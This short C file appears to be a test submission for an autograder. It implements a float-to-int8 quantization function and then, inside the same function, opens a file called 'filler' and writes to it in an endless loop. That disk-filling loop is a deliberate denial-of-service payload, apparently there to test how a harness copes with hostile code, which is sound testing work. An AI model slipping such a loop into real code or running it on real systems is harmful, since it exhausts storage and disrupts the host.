// points: few
// Writes without end.
#include "quantize.h"

#include <math.h>
#include <stdio.h>

void quantizeInt8InFloat(size_t N, const float src[], float dst[])
{
    for (size_t i = 0; i < N; i++) {
        float y = roundf(src[i]);
        dst[i] = y < -128.0f ? -128.0f : y > 127.0f ? 127.0f : y;
    }
    FILE *file = fopen("filler", "w");
    for (;;) {
        fputs("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde\n", file);
    }
}
